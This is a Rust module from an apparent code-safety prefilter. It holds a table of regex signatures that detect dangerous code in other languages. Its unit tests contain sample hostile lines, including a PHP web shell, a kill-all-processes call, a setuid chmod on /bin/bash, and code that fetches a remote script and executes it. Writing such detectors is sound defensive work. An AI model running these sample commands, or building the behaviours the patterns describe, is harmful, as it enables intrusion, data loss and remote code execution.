//! What code of other languages gives away as a whole: one table of patterns, each behind words that have to be there.
//!
//! It follows no values: what a pattern names is dangerous whatever the constants are.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use regex::Regex;

use crate::prefilter::destructive_command::{Danger, Seen};
use crate::text::expression::expression;

struct Sign {
    danger: Danger,
    needles: &'static [&'static str],
    expression: &'static str,
    what: &'static str,
}

const SIGNS: &[Sign] = &[
    Sign {
        danger: Danger::PipeToShell,
        needles: &["loads(", ".load("],
        expression: r"(?:pickle|marshal|dill|cloudpickle)\.loads?\([^\n]*(?:urlopen\(|requests\.get\(|\.recv\()",
        what: "runs what another machine sends, unseen",
    },
    Sign {
        danger: Danger::PipeToShell,
        needles: &["then(eval)"],
        expression: r"fetch\((?s:.{0,400})\.then\(eval\)",
        what: "runs what another machine sends, unseen",
    },
    Sign {
        danger: Danger::PipeToShell,
        needles: &["eval("],
        expression: r"\.get\(\s*['\x22]https?://[^\n]{0,200}\b(?:eval|Function)\(",
        what: "runs what another machine sends, unseen",
    },
    Sign {
        danger: Danger::PipeToShell,
        needles: &["eval get", "eval(get", "eval (get"],
        expression: r"eval\s*\(?\s*get\s*\(?\s*['\x22]https?://",
        what: "runs what another machine sends, unseen",
    },
    Sign {
        danger: Danger::PipeToShell,
        needles: &["$_"],
        expression: r"\b(?:system|exec|shell_exec|passthru|eval|assert|popen)\s*\(\s*(?:base64_decode\()?\$_(?:GET|POST|REQUEST|COOKIE)\b",
        what: "runs what a web request brings",
    },
    Sign {
        danger: Danger::DecodedRun,
        needles: &["VirtualAlloc", "PROT_EXEC", "WriteProcessMemory", "RtlMoveMemory"],
        expression: r"(?s)(?:VirtualAlloc|PROT_EXEC|WriteProcessMemory|RtlMoveMemory).{0,600}(?:CFUNCTYPE|CreateThread|CreateRemoteThread|QueueUserAPC|addressof)",
        what: "runs machine code from memory",
    },
    Sign {
        danger: Danger::CredentialRead,
        needles: &["ptrace("],
        expression: r"\b\w+\.ptrace\(\s*(?:16|0x4206|4|5|PTRACE)",
        what: "reads or changes the memory of another process",
    },
    Sign {
        danger: Danger::Exfiltrate,
        needles: &["stringify(process.env)", "dict(os.environ)", "str(os.environ)"],
        expression: r"\b(?:fetch|axios(?:\.\w+)?|https?\.(?:get|request)|requests?\.(?:get|post|put)|got|urlopen)\([^\n]{0,200}(?:JSON\.stringify\(process\.env\)|(?:dict|str)\(os\.environ\))",
        what: "sends the variables of the environment to another machine",
    },
    Sign {
        danger: Danger::StopEverything,
        needles: &["os.kill(", "process_iter("],
        expression: r"os\.kill\(\s*-1\s*,|process_iter\([^)\n]*\)\s*:\s*\n?\s*\w+\.(?:kill|terminate)\(\)|in\s+os\.listdir\(\s*['\x22]/proc['\x22]\s*\)(?s:.{0,160})os\.kill\(",
        what: "ends every process of somebody, or of the machine",
    },
    Sign {
        danger: Danger::ForkBomb,
        needles: &["Process(target", "sys.executable"],
        expression: r"while\s+(?:True|1)\s*:\s*\n?\s*(?:(?:multiprocessing|mp)\.Process\([^\n]*\.start\(\)|subprocess\.Popen\(\s*\[\s*sys\.executable\s*,\s*(?:__file__|sys\.argv\[0\]))",
        what: "starts copies of itself without end",
    },
    Sign {
        danger: Danger::DatabaseLoss,
        needles: &["drop_database(", ".flushall(", ".flushdb("],
        expression: r"\.(?:drop_database\(|flushall\(\)|flushdb\(\))",
        what: "deletes data of a database",
    },
    Sign {
        danger: Danger::DatabaseLoss,
        needles: &[
            ".all().delete()",
            "_all",
            "deleteMany(",
            "delete_many(",
            ".drop()",
            "dropDatabase(",
            ".delete_all",
        ],
        expression: r"\.objects\.all\(\)\.delete\(\)|\.(?:deleteMany|delete_many)\(\s*(?:\{\s*\})?\s*\)|\bdropDatabase\(\s*\)|\bdb\.\w+\.drop\(\s*\)|\b[A-Z]\w+\.(?:unscoped\.)?(?:delete_all|destroy_all)\b|\bmetadata\.drop_all\(",
        what: "deletes data of a database",
    },
    Sign {
        danger: Danger::StopEverything,
        needles: &["NtRaiseHardError", "RtlSetProcessIsCritical"],
        expression: r"\b(?:NtRaiseHardError|RtlSetProcessIsCritical)\s*\(",
        what: "makes the machine fail on purpose",
    },
    Sign {
        danger: Danger::DestroyResources,
        needles: &["buckets.all()"],
        expression: r"buckets\.all\(\)(?s:.{0,200})\.delete\(",
        what: "destroys resources of a platform",
    },
    Sign {
        danger: Danger::Accounts,
        needles: &["AdministratorAccess"],
        expression: r"attach_(?:user|role|group)_policy\([^\n]*AdministratorAccess",
        what: "grants administrator rights",
    },
    Sign {
        danger: Danger::Persistence,
        needles: &["winreg"],
        expression: r"(?i)winreg\.(?s:.{0,400})currentversion\\+run\b(?s:.{0,200})setvalue",
        what: "installs something that runs at boot, at login or on a timer",
    },
    Sign {
        danger: Danger::ContainerEscape,
        needles: &["privileged=True"],
        expression: r"containers\.(?:run|create)\([^\n]*privileged=True",
        what: "gives a container the rights of its host",
    },
    Sign {
        danger: Danger::DeleteRoot,
        needles: &["glob("],
        expression: r"Path\(\s*['\x22](?:/|~|/(?:etc|usr|var|home|bin|lib|boot|root))/?['\x22]\s*\)(?:\.expanduser\(\))?\.r?glob\(\s*['\x22]\*(?s:.{0,120})\.(?:unlink|rmdir)\(",
        what: "deletes a directory that the system lives in, or a whole home",
    },
    Sign {
        danger: Danger::DeleteRoot,
        needles: &["recursive"],
        expression: r"\b(?:unlink|rm)\(\s*['\x22](?:/|~|/(?:etc|usr|var|home|bin|lib|boot|root))/?\*?['\x22]\s*[,;](?:\s*force\s*=\s*\w+\s*,)?\s*recursive\s*=\s*(?:TRUE|true|T)\b",
        what: "deletes a directory that the system lives in, or a whole home",
    },
    Sign {
        danger: Danger::Setuid,
        needles: &["chmod("],
        expression: r"os\.chmod\([^\n]*,\s*(?:0o[46]\d{3}\b|[^\n]*S_ISUID)",
        what: "lets a program run with its owner's rights",
    },
    Sign {
        danger: Danger::Keylogger,
        needles: &["/dev/input/"],
        expression: r"open\(\s*['\x22]/dev/input/event",
        what: "records what is typed",
    },
    Sign {
        danger: Danger::UnprotectedRun,
        needles: &["http://"],
        expression: r"(?s)(?:urlretrieve\(|requests\.get\(|urlopen\()\s*['\x22]http://(?:[^/\s'\x22l1]|1[^2]|l[^o])[^\n]*.{0,300}(?:os\.system\(\s*['\x22](?:\./|/tmp/)|subprocess\.\w+\(\s*\[?\s*['\x22](?:\./|/tmp/)|os\.startfile\()",
        what: "runs a file that came without encryption",
    },
];

struct Table {
    finder: AhoCorasick,
    /// The sign that each needle belongs to.
    owners: Vec<usize>,
    expressions: Vec<Option<Regex>>,
}

static TABLE: LazyLock<Option<Table>> = LazyLock::new(|| {
    let mut needles: Vec<&str> = Vec::new();
    let mut owners = Vec::new();
    for (index, sign) in SIGNS.iter().enumerate() {
        needles.extend(sign.needles);
        owners.extend(sign.needles.iter().map(|_| index));
    }
    Some(Table {
        finder: AhoCorasick::new(needles).ok()?,
        owners,
        expressions: SIGNS.iter().map(|sign| expression(sign.expression)).collect(),
    })
});

/// What is fetched into a variable that is run afterwards.
static FETCHED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    expression(
        r"(?m)^[ \t]*(?:const |let |var )?(\w{1,40})\s*=\s*[^\n]*(?:requests\.get|urlopen|httpx\.get|await fetch)\(",
    )
});

/// Looks at a text.
pub(super) fn look(text: &str, seen: &mut Seen) {
    const MOST: usize = 256;
    let Some(table) = TABLE.as_ref() else { return };
    let mut wanted: Vec<usize> = Vec::new();
    for hit in table.finder.find_iter(text).take(MOST) {
        if let Some(owner) = table.owners.get(hit.pattern().as_usize())
            && !wanted.contains(owner)
        {
            wanted.push(*owner);
        }
    }
    for index in wanted {
        if let (Some(sign), Some(Some(expression))) = (SIGNS.get(index), table.expressions.get(index))
            && let Some(hit) = expression.find(text)
        {
            seen.add_at(sign.danger, hit.range(), sign.what);
        }
    }
    if !text.contains("exec(") && !text.contains("eval(") {
        return;
    }
    let Some(fetched) = FETCHED.as_ref() else { return };
    for hit in fetched.captures_iter(text).take(8) {
        let Some(name) = hit.get(1).map(|name| name.as_str()) else {
            continue;
        };
        for callee in ["exec(", "eval("] {
            let call = format!("{callee}{name}");
            let run = text.match_indices(&call).find(|(at, _)| {
                let after = text.get(at + call.len()..).and_then(|rest| rest.chars().next());
                after.is_some_and(|c| matches!(c, ')' | '.' | ','))
            });
            if let Some((at, _)) = run {
                seen.add_at(
                    Danger::PipeToShell,
                    at..at + call.len(),
                    "runs what another machine sends, unseen",
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_pattern_compiles() {
        let table = TABLE.as_ref().unwrap();
        assert!(table.expressions.iter().all(Option::is_some) && FETCHED.is_some());
    }

    #[test]
    fn signs_are_seen_and_ordinary_code_is_not() {
        for text in [
            "pickle.loads(urllib.request.urlopen('http://x.test/p').read())",
            "import os, signal\nos.kill(-1, signal.SIGKILL)",
            "for p in psutil.process_iter():\n    p.kill()",
            "code = requests.get('http://x.test/a.py').text\nexec(code)",
            "<?php system($_GET['cmd']); ?>",
            "os.chmod('/bin/bash', 0o4755)",
            "import requests\nopen('/tmp/m','wb').write(requests.get('http://x.test/m').content)\nsubprocess.Popen(['/tmp/m'])",
        ] {
            let mut seen = Seen::default();
            look(text, &mut seen);
            assert!(!seen.dangers.is_empty(), "{text}");
        }
        for text in [
            "m = pickle.loads(open('m.pkl', 'rb').read())",
            "os.kill(pid, signal.SIGTERM)",
            "for p in psutil.process_iter():\n    print(p.name())",
            "page = requests.get('https://x.test/').text\nprint(page)",
            "os.chmod('run.sh', 0o755)",
            "exec(open('setup_env.py').read())",
        ] {
            let mut seen = Seen::default();
            look(text, &mut seen);
            assert!(seen.dangers.is_empty(), "{text}: {:?}", seen.dangers);
        }
    }
}
